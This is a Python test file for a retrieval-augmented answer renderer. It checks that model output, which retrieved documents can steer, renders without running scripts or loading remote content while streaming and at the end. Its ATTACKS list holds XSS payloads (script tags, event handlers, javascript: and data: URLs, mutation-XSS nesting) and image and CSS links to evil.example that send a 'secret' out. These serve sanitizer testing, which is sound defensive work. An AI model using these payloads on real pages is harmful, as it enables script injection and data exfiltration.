"""Nothing that a document makes a model say runs or loads anything, on the streaming path or the final one."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.api.render import answer_html, markdown
from rag.events import Citation

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<button data-passage=1 onclick=alert(1)>1</button>",
    "![a](https://evil.example/p.png?q=secret)",
    "![a][1]\n\n[1]: https://evil.example/p.png",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    '[a](http://x "onmouseover=alert(1) [1]")',
    "[a](http://x/\"onmouseover='alert(1)')",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='http://evil.example' style='position:fixed;inset:0'>x</a>",
    "[1](javascript:alert(1))",
    "\ue000[1\ue000]\ue001<script>",
]

ALLOWED = {
    "p",
    "br",
    "strong",
    "em",
    "s",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "button",
}
ATTRIBUTES = {"a": {"href", "rel", "target"}, "ol": {"start"}, "button": {"type", "class", "data-passage"}}


class Inspector(HTMLParser):
    """Fails on any tag, attribute or address that could run or load something."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED
        assert {name for name, _ in attrs} <= ATTRIBUTES.get(tag, set())
        values = dict(attrs)
        if tag == "a":
            assert urlsplit(values.get("href", "http:")).scheme in {"http", "https", "mailto"}
            assert {"noopener", "noreferrer"} <= set(values["rel"].split())
        if tag == "button":
            assert values["data-passage"].isdigit()


def assert_harmless(html):
    Inspector().feed(html)


def cite(number, start, end, *, origin="model", verified=True, found=True):
    return Citation(number, origin, start, end, "", 0, 0, 1.0, verified, found=found)


def test_a_literal_answer_is_shown_as_it_is_and_all_its_numbers_are_marked():
    html = answer_html("| *a* | `b` |\n# c [1][2]", [cite(1, 0, 17), cite(2, 0, 17)], 2, literal=True)
    assert html.startswith("<p>| *a* | `b` |<br>\n# c <button")
    assert html.count("chip-verified") == 2
    assert_harmless(answer_html("<script>1</script> ![a](//b) [1]", [], 1, literal=True))


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_piece_of_a_stream_is_as_harmless_as_the_whole(attack):
    answer = f"Before [1]. {attack} After [2]."
    citations = [cite(1, 0, 11), cite(2, 11, len(answer), origin="matched")]
    for end in range(len(answer) + 1):
        known = [each for each in citations if each.answer_end <= end]
        assert_harmless(answer_html(answer[:end], known, 2))


@given(st.text(alphabet="<>[]()!\"'`&;:/= \nabcsrimgjvtpon1\ue000\ue001", max_size=80))
def test_any_text_is_harmless(text):
    assert_harmless(answer_html(text, [cite(1, 0, len(text), origin="matched")], 3))
    assert_harmless(markdown(text))


def test_a_number_of_a_passage_becomes_a_button_and_others_stay_text():
    html = answer_html("A [1], b [7], c [0].", [], 2)
    assert '<button type="button" class="chip" data-passage="1">1</button>' in html
    assert "[7]" in html
    assert "[0]" in html


def test_a_citation_shows_whether_it_was_verified_and_else_whether_its_words_were_found():
    text = "One thing [1]. Another thing [2]. A third [3]."
    cited = [cite(1, 0, 14), cite(2, 14, 33, verified=False), cite(3, 33, 47, verified=False, found=False)]
    html = answer_html(text, cited, 3)
    assert 'class="chip chip-verified" data-passage="1"' in html
    assert 'class="chip chip-unchecked" data-passage="2"' in html
    assert 'class="chip chip-unfound" data-passage="3"' in html


def test_a_matched_citation_stands_behind_its_sentence():
    html = answer_html("One thing. Another.", [cite(2, 0, 10, origin="matched")], 2)
    assert html.startswith('<p>One thing.<button type="button" class="chip chip-verified" data-passage="2">')


def test_citations_of_one_sentence_keep_their_order():
    html = answer_html("Both.", [cite(1, 0, 5, origin="matched"), cite(2, 0, 5, origin="matched")], 2)
    assert html.index('data-passage="1"') < html.index('data-passage="2"')


def test_a_line_that_looks_like_a_links_definition_does_not_vanish():
    assert "see" in answer_html("[1]: see", [], 1)


def test_code_keeps_its_brackets():
    assert "<code>a[1]</code>" in answer_html("`a[1]`", [cite(1, 0, 6)], 1)
